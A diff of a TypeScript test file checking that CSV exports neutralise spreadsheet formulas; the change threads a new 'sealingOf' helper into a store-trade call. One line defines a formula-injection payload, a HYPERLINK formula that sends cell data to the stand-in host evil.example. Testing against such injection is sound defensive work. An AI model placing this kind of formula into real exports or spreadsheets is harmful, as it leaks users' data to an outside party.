@@ -15,7 +15,7 @@ import { rows } from "../../core/shared/index.server.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
 import { BACKOFFICE, bearer, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
 import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
-import { storeClerk, walkInTrade } from "../../tests/helpers/store-trades.ts";
+import { sealingOf, storeClerk, walkInTrade } from "../../tests/helpers/store-trades.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
 let seq = 0;
@@ -97,7 +97,7 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     const now = new Date();
     const { context } = await storeClerk(ctx(), "Kette Formel", FORMULA);
     const { offerId } = await smartphoneOffer(ctx());
-    await createStoreTrade(db, context, walkInTrade(offerId, "Wanda", "Laufkundin", "wanda@example.com"), now);
+    await createStoreTrade(db, context, walkInTrade(offerId, "Wanda", "Laufkundin", "wanda@example.com"), now, sealingOf(ctx()));
 
     const month = now.toLocaleDateString("sv-SE", { timeZone: "Europe/Berlin" }).slice(0, 7);
     const report = await monthReport(db, scopeOf(context.user), month);
